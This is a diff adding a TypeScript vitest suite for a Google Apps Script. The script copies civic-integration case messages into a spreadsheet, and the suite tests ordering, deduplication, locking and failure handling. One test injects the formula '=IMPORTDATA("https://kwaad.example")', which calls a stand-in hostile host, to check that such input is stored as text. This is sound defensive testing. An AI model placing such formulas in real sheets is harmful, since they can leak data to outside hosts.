@@ -1,0 +1,250 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { runInNewContext } from 'node:vm';
+import { beforeEach, describe, expect, test } from 'vitest';
+import { z } from 'zod';
+import { example } from '../../../contract/support/examples.ts';
+import { EXAMPLES } from './runtimes.ts';
+
+/** The script of the spreadsheet, with the parts of Google's that it uses in memory. */
+
+const SCRIPT = readFileSync(join(EXAMPLES, 'rekenblad', 'ophalen.gs'), 'utf8');
+const HUB = 'https://hub.example.nl';
+const TOKEN_URL = 'https://tokens.example.nl/token';
+
+type Cel = unknown;
+
+/** What a sheet makes of a value, as if it were typed: a text only stays itself in a cell that is text. */
+const asTyped = (value: Cel, format: string): Cel => {
+  if (typeof value !== 'string') return value;
+  if (value.startsWith('=')) throw new Error('a formula');
+  // A leading apostrophe marks text, and is not part of it.
+  if (value.startsWith("'")) return value.slice(1);
+  if (format === '@') return value;
+  if (/^[+\-@]/.test(value)) throw new Error('a formula');
+  if (/^\d+$/.test(value)) return Number(value);
+  return /^\d{4}-\d{2}(-\d{2})?$/.test(value) ? new Date(value) : value;
+};
+
+/** A sheet: what was set, as it is read back. */
+const createBlad = () => {
+  const cells: Cel[][] = [];
+  const formats: string[][] = [];
+  return {
+    cells,
+    getDataRange: () => ({ getValues: () => cells.map((row) => [...row]) }),
+    getRange: (rowValue: number, column: number, countRows: number, countColumns: number) => {
+      const put = <T>(target: T[][], values: T[][]): void => {
+        expect([values.length, values[0]?.length]).toEqual([countRows, countColumns]);
+        values.forEach((row, down) => {
+          const targetValue = target[rowValue - 1 + down] ?? [];
+          target[rowValue - 1 + down] = targetValue;
+          row.forEach((value, right) => {
+            targetValue[column - 1 + right] = value;
+          });
+        });
+      };
+      const range = {
+        setNumberFormats: (given: string[][]) => {
+          put(formats, given);
+          return range;
+        },
+        setValues: (given: Cel[][]) => {
+          const format = (down: number, right: number) =>
+            formats[rowValue - 1 + down]?.[column - 1 + right] ?? '';
+          put(
+            cells,
+            given.map((row, down) => row.map((value, right) => asTyped(value, format(down, right)))),
+          );
+          return range;
+        },
+      };
+      return range;
+    },
+  };
+};
+
+type Bericht = Record<string, unknown>;
+const Request = z.object({
+  method: z.enum(['get', 'post']),
+  headers: z.object({ Authorization: z.string() }).optional(),
+  payload: z.record(z.string(), z.string()).optional(),
+});
+
+let sheets: Map<string, ReturnType<typeof createBlad>>;
+let lie: Bericht[];
+let called: string[];
+let busy: boolean;
+/** Called when something is confirmed, to look at what was written by then. */
+let atConfirm: (id: string) => void;
+
+const response = (content: unknown) => ({ getContentText: () => JSON.stringify(content) });
+
+const environment = () => ({
+  LockService: { getScriptLock: () => ({ tryLock: () => !busy, releaseLock: () => undefined }) },
+  PropertiesService: {
+    getScriptProperties: () => ({
+      getProperty: (name: string) =>
+        ({ HUB, TOKEN_URL, CLIENT_ID: 'taalschool', CLIENT_SECRET: 'wachtwoord' })[name] ?? null,
+    }),
+  },
+  SpreadsheetApp: {
+    flush: () => called.push('flush'),
+    getActive: () => ({
+      getSheetByName: (name: string) => sheets.get(name) ?? null,
+      insertSheet: (name: string) => {
+        const blad = createBlad();
+        sheets.set(name, blad);
+        return blad;
+      },
+    }),
+  },
+  UrlFetchApp: {
+    fetch: (adres: string, options: unknown) => {
+      const { method, headers, payload } = Request.parse(options);
+      called.push(`${method} ${adres}`);
+      if (adres === TOKEN_URL) {
+        expect(payload).toEqual({
+          grant_type: 'client_credentials',
+          client_id: 'taalschool',
+          client_secret: 'wachtwoord',
+        });
+        return response({ access_token: 'token-1' });
+      }
+      expect(headers).toEqual({ Authorization: 'Bearer token-1' });
+      const [, id] = /\/v1\/berichten\/([^/]+)\/_bevestig$/.exec(adres) ?? [];
+      if (id === undefined) return response({ berichten: lie });
+      atConfirm(id);
+      lie = lie.filter((bericht) => bericht['id'] !== id);
+      return { getContentText: () => '' };
+    },
+  },
+});
+
+const fetch = (): void => {
+  runInNewContext(`${SCRIPT}\nhaalOp();`, environment());
+};
+
+/** The sheet as objects, by the names of its columns. */
+const people = (): readonly Record<string, Cel>[] => {
+  const [columns = [], ...rows] = sheets.get('Mensen')?.cells ?? [];
+  return rows.map((row) =>
+    Object.fromEntries(
+      columns.map((column, place) => [String(column), row[place] ?? '']).filter(([, value]) => value !== ''),
+    ),
+  );
+};
+
+const ZAAK = '3f7d6c1e-0f5b-8a8e-9d6a-1f2e3d4c5b6a';
+
+const bericht = (soort: string, volgnummer: number, data: object = {}, role = 'balk'): Bericht => {
+  const found = example(`nl.inburgeringszaken.nieuwe.inburgeraar.${soort}.v1`, `goed-${role}`);
+  return {
+    ...found,
+    id: `${soort}-${volgnummer}`,
+    data: { ...z.record(z.string(), z.unknown()).parse(found['data']), zaakId: ZAAK, volgnummer, ...data },
+  };
+};
+
+beforeEach(() => {
+  sheets = new Map();
+  lie = [];
+  called = [];
+  busy = false;
+  atConfirm = () => undefined;
+});
+
+describe('the script of the spreadsheet', () => {
+  test('writes a row for every person before it confirms the message', () => {
+    lie = [bericht('gemeld', 1), bericht('gemeld', 1, { zaakId: 'andere-zaak' }, 'balk')];
+    let atFirst = 0;
+    atConfirm = () => {
+      atFirst ||= people().length;
+      expect(called.at(-2)).toBe('flush');
+    };
+    fetch();
+    expect(atFirst).toBe(1);
+    expect(people()).toHaveLength(2);
+    expect(people()[0]).toMatchObject({ zaakId: ZAAK, volgnummer: 1, stand: 'gemeld' });
+    expect(String(people()[0]?.['naam'])).not.toContain('object');
+    expect(lie).toEqual([]);
+  });
+
+  test('changes the row of a person, and adds columns that were not there', () => {
+    lie = [bericht('gemeld', 1)];
+    fetch();
+    lie = [bericht('gewijzigd', 2, { nieuwveld: 'later bedacht' })];
+    fetch();
+    expect(people()).toHaveLength(1);
+    expect(people()[0]).toMatchObject({ volgnummer: 2, stand: 'gewijzigd', nieuwveld: 'later bedacht' });
+  });
+
+  test('keeps the newest when messages come twice or out of order, and confirms them all', () => {
+    lie = [bericht('gewijzigd', 2), bericht('gemeld', 1), bericht('gewijzigd', 2)];
+    fetch();
+    expect(people()).toHaveLength(1);
+    expect(people()[0]).toMatchObject({ volgnummer: 2, stand: 'gewijzigd' });
+    expect(lie).toEqual([]);
+  });
+
+  test('leaves nothing of a person who does not come', () => {
+    lie = [bericht('gemeld', 1), bericht('vervallen', 2)];
+    fetch();
+    expect(people()).toEqual([
+      {
+        zaakId: ZAAK,
+        volgnummer: 2,
+        stand: expect.stringMatching(/^vervallen: /),
+        bijgewerkt: expect.any(String),
+      },
+    ]);
+  });
+
+  test.each([
+    '=IMPORTDATA("https://kwaad.example")',
+    '+31612345678',
+    '-',
+    '@jansen',
+    '0612345678',
+    '1990-05',
+    '1990-05-17',
+  ])('writes the text %s as it is', (text) => {
+    lie = [bericht('gemeld', 1, { contact: text })];
+    fetch();
+    expect(people()[0]?.['contact']).toBe(text);
+  });
+
+  test('writes a number as a number, to count and sort with', () => {
+    lie = [bericht('gemeld', 1, { aantalGezinsleden: 4 })];
+    fetch();
+    expect(people()[0]).toMatchObject({ volgnummer: 1, aantalGezinsleden: 4 });
+  });
+
+  test('does not confirm what it could not write, and does the other zaken', () => {
+    const other = { ...bericht('gemeld', 1, { zaakId: 'andere-zaak' }), id: 'ander', subject: 'andere-zaak' };
+    lie = [bericht('gemeld', 1), bericht('gewijzigd', 2), other];
+    const blad = createBlad();
+    let reads = 0;
+    sheets.set('Mensen', {
+      ...blad,
+      getDataRange: () => {
+        reads += 1;
+        if (reads === 1) throw new Error('het blad is weg');
+        return blad.getDataRange();
+      },
+    });
+    blad.getRange(1, 1, 1, 4).setValues([['zaakId', 'volgnummer', 'stand', 'bijgewerkt']]);
+    expect(fetch).toThrow('het blad is weg');
+    expect(lie.map((stayed) => stayed['id'])).toEqual(['gemeld-1', 'gewijzigd-2']);
+    expect(people()).toMatchObject([{ zaakId: 'andere-zaak' }]);
+    fetch();
+    expect(lie).toEqual([]);
+    expect(people()).toHaveLength(2);
+  });
+
+  test('does nothing while it runs already', () => {
+    busy = true;
+    fetch();
+    expect(called).toEqual([]);
+  });
+});
